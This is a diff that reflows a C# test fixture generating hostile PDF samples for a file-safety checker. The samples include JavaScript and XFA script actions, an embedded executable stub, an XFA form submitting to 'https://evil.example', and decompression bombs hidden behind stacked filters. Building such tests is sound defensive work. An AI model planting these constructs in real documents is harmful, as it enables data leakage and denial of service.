@@ -52,7 +52,8 @@ static class HostilePdfs
         ("<</Type /Annot /Subtype /Screen /A <</S /Rendition /R <<>> >> >>", FileFault.RichMedia),
     ];
 
-    const string Others = "30 0 obj\n/JavaScript\nendobj\n31 0 obj\n(x)\nendobj\n32 0 obj\n(file:///x)\nendobj\n"
+    const string Others =
+        "30 0 obj\n/JavaScript\nendobj\n31 0 obj\n(x)\nendobj\n32 0 obj\n(file:///x)\nendobj\n"
         + "33 0 obj\n<</Type /EmbeddedFile /Length 2>>\nstream\nMZ\nendstream\nendobj\n34 0 obj\n<</F 33 0 R>>\nendobj\n";
 
     public static IEnumerable<(byte[] Bytes, FileFault Fault)> All()
@@ -62,26 +63,53 @@ static class HostilePdfs
             // In the open, in a list, with the line ends of old Macintoshes, in an older revision, packed.
             yield return (Pdf($"9 0 obj\n{action}\nendobj\n{Others}"), fault);
             yield return (Pdf($"{Others}9 0 obj[null {action}]endobj\n"), fault);
-            if (!action.Contains('%')) yield return (Pdf($"9 0 obj\r{action}\rendobj\r{Others.Replace('\n', '\r')}"), fault);
+            if (!action.Contains('%'))
+                yield return (Pdf($"9 0 obj\r{action}\rendobj\r{Others.Replace('\n', '\r')}"), fault);
             yield return (Pdf($"9 0 obj\n{action}\nendobj\n{Others}trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n9 0 obj\nnull\nendobj\n"), fault);
             yield return (Pdf($"9%one\n0 %two\nobj\n{action}\nendobj\n{Others}"), fault);
-            foreach (var packed in Packed($"9 0 {action}")) yield return (Pdf($"{packed}{Others}"), fault);
+            foreach (var packed in Packed($"9 0 {action}"))
+                yield return (Pdf($"{packed}{Others}"), fault);
         }
-        foreach (var script in (string[])["<script>x</script>", "<x:script xmlns:x='x' contentType='application/x-javascript'>x</x:script>", "<event><script><![CDATA[x]]></script></event>"])
+        foreach (
+            var script in (string[])
+                [
+                    "<script>x</script>",
+                    "<x:script xmlns:x='x' contentType='application/x-javascript'>x</x:script>",
+                    "<event><script><![CDATA[x]]></script></event>",
+                ]
+        )
         {
             var form = Latin1(PdfStream(41, "", $"<xdp>{script}</xdp>"));
             yield return (Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{form}"), FileFault.FormScript);
             yield return (Pdf($"40 0 obj\n<</XFA [(template) 41 0 R]>>\nendobj\n{form}"), FileFault.FormScript);
         }
-        yield return (Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{Latin1(PdfStream(41, "", "<xdp><submit target='https://evil.example'/></xdp>"))}"), FileFault.SubmitForm);
+        yield return (
+            Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{Latin1(PdfStream(41, "", "<xdp><submit target='https://evil.example'/></xdp>"))}"),
+            FileFault.SubmitForm
+        );
         // What cannot be read to its end, or has none.
-        yield return (Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream\nendobj\n"), FileFault.Damaged);
-        yield return (Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /Brotli /Length 4>>\nstream\nabcd\nendstream\nendobj\n"), FileFault.Damaged);
+        yield return (
+            Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
+            FileFault.Damaged
+        );
+        yield return (
+            Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /Brotli /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
+            FileFault.Damaged
+        );
         yield return (Pdf($"9 0 obj\n{new string('[', 5000)}"), FileFault.Damaged);
         yield return (Pdf($"9 0 obj\n{string.Concat(Enumerable.Repeat("<</A", 5000))}"), FileFault.Damaged);
         yield return (PdfWithObjects(new string(' ', 30_000_000)), FileFault.UnpacksTooFar);
         yield return (Pdf(string.Concat(Enumerable.Repeat("9 0 obj (", 60_000))), FileFault.UnpacksTooFar);
-        yield return (Pdf(Latin1([.. "9 0 obj\n<</Filter [/FlateDecode /FlateDecode] /Length 500000>>\nstream\n"u8, .. Deflated(Deflated(new byte[300_000_000])), .. "\nendstream\nendobj\n"u8])), FileFault.UnpacksTooFar);
+        yield return (
+            Pdf(
+                Latin1([
+                    .. "9 0 obj\n<</Filter [/FlateDecode /FlateDecode] /Length 500000>>\nstream\n"u8,
+                    .. Deflated(Deflated(new byte[300_000_000])),
+                    .. "\nendstream\nendobj\n"u8,
+                ])
+            ),
+            FileFault.UnpacksTooFar
+        );
     }
 
     /// <summary>A stream of objects behind every filter there is, and several.</summary>
@@ -93,10 +121,12 @@ static class HostilePdfs
         yield return $"{Head} /Filter /FlateDecode /Length {flat.Length}>>\nstream\n{flat}\nendstream\nendobj\n";
         yield return $"{Head} /Filter [/Fl] /Length 1>>\r\nstream\r\n{flat[..^4]}wron\r\nendstream\r\nendobj\n";
         yield return $"{Head} /Filter /A#48x /Length 9>>\nstream\n{Convert.ToHexString(bytes)}>\nendstream\nendobj\n";
-        yield return $"{Head} /Filter [/ASCIIHexDecode /FlateDecode] /Length 9>>\nstream\n{Convert.ToHexString(Encoding.Latin1.GetBytes(flat))}>\nendstream\nendobj\n";
+        yield return $"{Head} /Filter [/ASCIIHexDecode /FlateDecode] /Length "
+            + $"9>>\nstream\n{Convert.ToHexString(Encoding.Latin1.GetBytes(flat))}>\nendstream\nendobj\n";
         yield return $"{Head} /Length {bytes.Length}>>\nstream\n{objects}\nendstream\nendobj\n";
         var rows = Latin1(Deflated([.. bytes.Chunk(8).SelectMany(row => (byte[])[0, .. row, .. new byte[8 - row.Length]])]));
-        yield return $"{Head} /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 8>> /Length {rows.Length}>>\nstream\n{rows}\nendstream\nendobj\n";
+        yield return $"{Head} /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 8>> /Length "
+            + $"{rows.Length}>>\nstream\n{rows}\nendstream\nendobj\n";
         var runs = Latin1([.. bytes.Chunk(100).SelectMany(run => (byte[])[(byte)(run.Length - 1), .. run]), 128]);
         yield return $"{Head} /Filter /RL /Length {runs.Length}>>\nstream\n{runs}\nendstream\nendobj\n";
     }
